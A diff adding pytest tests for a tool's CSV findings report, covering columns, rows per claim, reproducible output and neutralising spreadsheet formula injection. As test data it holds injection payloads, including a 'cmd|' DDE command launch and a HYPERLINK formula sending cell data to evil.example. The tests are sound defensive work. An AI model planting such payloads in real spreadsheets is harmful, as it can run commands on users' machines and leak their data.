@@ -1,0 +1,222 @@
+"""The CSV report (`check --csv`, issue 17): one row per finding for a spreadsheet, every claim
+present, untrusted text unable to become a formula, the same results giving the same bytes."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+
+from claimwatch import claims as claims_mod
+from claimwatch.cli import main
+from claimwatch.evaluate import evaluate
+from claimwatch.evidence import JsonlEvidence
+from claimwatch.reports import renderers
+from claimwatch.reports.csvreport import BOM, COLUMNS, render_csv, safe_cell
+from claimwatch.results import Results
+from helpers import HIT, LAB, authorship, project, work, write, write_jsonl
+from test_reports import shipped_results
+
+DOCS = Path(__file__).resolve().parent.parent / "docs/reports.md"
+
+CLAIMS = """\
+statement:
+  speaker: Example Corp
+  made_on: 2024-01-10
+  quote: We do not work on face recognition, nor with military universities.
+  sources: [{title: An interview}]
+subjects:
+  lab:
+    name: Example Lab
+    openalex: [I100]
+claims:
+  - id: no-face-with-partners
+    says: Example Lab does no face recognition work with military universities.
+    subject: lab
+    from: 2024-01-10
+    expects: none
+    works: {topic: face, coauthor_in: [mil]}
+  - id: no-face-later
+    says: "=Example Lab will do no face recognition from 2030."
+    subject: lab
+    from: 2030-01-01
+    expects: none
+    works: {topic: face}
+"""
+
+RECORDS = [
+    work("W1", "Face recognition at scale", doi="https://doi.org/10.1234/abc"),
+    work("W2", "Face verification", date="2024"),  # may fall before the claim's start: uncertain
+]
+
+
+def case(root: Path, records: list[dict]) -> Results:
+    path = write(root / "claims/c.yaml", CLAIMS)
+    evidence = JsonlEvidence.open(write_jsonl(root / "works.jsonl", records))
+    return evaluate(claims_mod.load_claims([path], root=root), [evidence])
+
+
+def parse(text: str) -> list[dict[str, str]]:
+    assert text.startswith(BOM)
+    return list(csv.DictReader(io.StringIO(text[len(BOM) :], newline="")))
+
+
+@pytest.fixture()
+def results(tmp_path) -> Results:
+    return case(project(tmp_path), RECORDS)
+
+
+def test_the_header_is_the_documented_columns_and_rows_end_in_crlf(results):
+    text = render_csv(results)
+    header, _, rest = text[len(BOM) :].partition("\r\n")
+    assert next(csv.reader([header])) == list(COLUMNS)
+    assert text.endswith("\r\n") and rest.count("\r\n") == len(parse(text))
+    assert renderers()["csv"] is render_csv
+
+
+def test_a_matched_finding_is_a_row_with_its_work_reasons_and_records(results):
+    rows = parse(render_csv(results))
+    matched = [r for r in rows if r["status"] == "matched"]
+    assert [r["work_id"] for r in matched] == ["W1"]
+    (row,) = matched
+    result = results.result("no-face-with-partners")
+    (finding,) = result.findings
+    assert {k: row[k] for k in ("claim", "verdict", "says", "subject", "period_from", "period_to")} == {
+        "claim": "no-face-with-partners",
+        "verdict": result.verdict,
+        "says": result.says,
+        "subject": "Example Lab",
+        "period_from": "2024-01-10",
+        "period_to": "",
+    }
+    assert (row["strength"], row["title"], row["publication_date"]) == (
+        "direct",
+        "Face recognition at scale",
+        "2024-06-01",
+    )
+    assert (row["doi"], row["arxiv"], row["url"]) == (finding.work.doi or "", "", finding.work.url or "")
+    assert row["doi"] == "10.1234/abc"
+    assert row["records"].splitlines() == list(finding.work.records) and row["records"].endswith(":1")
+    assert row["reasons"].splitlines() == [
+        "A. Lab (1): openalex_id, subject, Example Lab",
+        "B. Partner (2): openalex_id, mil/hit, Harbin Institute of Technology",
+        '"face recognition" in title',
+    ]
+    assert row["doubts"] == ""
+
+
+def test_an_uncertain_finding_is_a_row_with_its_doubts(results):
+    (row,) = [r for r in parse(render_csv(results)) if r["status"] == "uncertain"]
+    (finding,) = results.result("no-face-with-partners").uncertain_findings
+    assert (row["claim"], row["work_id"], row["publication_date"]) == ("no-face-with-partners", "W2", "2024")
+    assert row["doubts"].splitlines() == list(finding.uncertain_because)
+    assert "may fall before 2024-01-10" in row["doubts"]
+
+
+def test_a_claim_with_no_finding_still_has_its_verdict_in_one_row(results):
+    rows = [r for r in parse(render_csv(results)) if r["claim"] == "no-face-later"]
+    assert len(rows) == 1
+    (row,) = rows
+    assert row["status"] == "none" and row["verdict"] == results.result("no-face-later").verdict
+    assert all(row[c] == "" for c in COLUMNS[COLUMNS.index("strength") :])
+    assert row["says"] == "'=Example Lab will do no face recognition from 2030."  # the claim's text is guarded too
+
+
+def test_every_claim_and_finding_of_the_shipped_case_has_a_row():
+    results = shipped_results()
+    rows = parse(render_csv(results))
+    expected = [
+        (r.claim, f.work.id, f.status) for r in results.results for f in [*r.findings, *r.uncertain_findings]
+    ] + [(r.claim, "", "none") for r in results.results if not (r.findings or r.uncertain_findings)]
+    assert sorted((row["claim"], row["work_id"], row["status"]) for row in rows) == sorted(expected)
+    assert {row["claim"] for row in rows} == {r.claim for r in results.results}
+    verdicts = {r.claim: r.verdict for r in results.results}
+    assert all(row["verdict"] == verdicts[row["claim"]] for row in rows)
+
+
+def test_two_renders_give_the_same_bytes(tmp_path):
+    first = render_csv(case(project(tmp_path / "a"), RECORDS))
+    second = render_csv(case(project(tmp_path / "a"), RECORDS))
+    assert first.encode("utf-8") == second.encode("utf-8")
+    assert render_csv(shipped_results()) == render_csv(shipped_results())
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "\ufffd=1"),  # a lone carriage return is a control character, replaced first
+        ("a=b", "a=b"),
+        ("Face \x1b[31mred\x1b[0m", "Face \ufffd[31mred\ufffd[0m"),
+        ("", ""),
+    ],
+)
+def test_a_cell_never_starts_a_formula_and_carries_no_control_character(text, cell):
+    assert safe_cell(text) == cell
+
+
+HOSTILE = [
+    work(
+        "W9",
+        '=HYPERLINK("https://evil.example/?"&A1, "Face recognition")',
+        doi="10.1234/x",
+        primary_location={"landing_page_url": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        authorships=[authorship("+Mallory\x1b[2J", [LAB]), authorship("-B. Partner", [HIT])],
+    )
+]
+
+
+def test_hostile_evidence_reaches_the_csv_as_inert_text(tmp_path):
+    rows = parse(render_csv(case(project(tmp_path), HOSTILE)))
+    (row,) = [r for r in rows if r["work_id"] == "W9"]
+    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Face recognition")'
+    assert row["url"].startswith("'@SUM")
+    assert row["reasons"].startswith("'+Mallory\ufffd[2J (1): ")
+    for r in rows:
+        for column, value in r.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", value.replace("\r\n", "")), (column, value)
+
+
+def test_check_csv_writes_the_report(tmp_path, monkeypatch, capsys):
+    root = project(tmp_path)
+    write(root / "claims/c.yaml", CLAIMS)
+    write_jsonl(root / "works.jsonl", RECORDS)
+    monkeypatch.chdir(root)
+    assert main(["check", "claims/c.yaml", "--evidence", "works.jsonl", "--csv", "out/findings.csv"]) == 0
+    assert "wrote out/findings.csv" in capsys.readouterr().out
+    data = (root / "out/findings.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert [(r["claim"], r["status"]) for r in rows] == [
+        ("no-face-with-partners", "matched"),
+        ("no-face-with-partners", "uncertain"),
+        ("no-face-later", "none"),
+    ]
+
+
+def test_check_csv_onto_an_input_is_refused(tmp_path, monkeypatch, capsys):
+    root = project(tmp_path)
+    write(root / "claims/c.yaml", CLAIMS)
+    write_jsonl(root / "works.jsonl", RECORDS)
+    monkeypatch.chdir(root)
+    before = (root / "claims/c.yaml").read_bytes()
+    assert main(["check", "claims/c.yaml", "--evidence", "works.jsonl", "--csv", "claims/c.yaml"]) == 2
+    err = capsys.readouterr().err.splitlines()
+    assert err == [
+        "claims/c.yaml: --csv would overwrite the claim file claims/c.yaml, an input of this run; choose another path"
+    ]
+    assert (root / "claims/c.yaml").read_bytes() == before
+
+
+def test_every_column_is_documented():
+    doc = DOCS.read_text(encoding="utf-8")
+    for column in COLUMNS:
+        assert f"| `{column}` |" in doc, f"docs/reports.md does not describe the CSV column {column}"
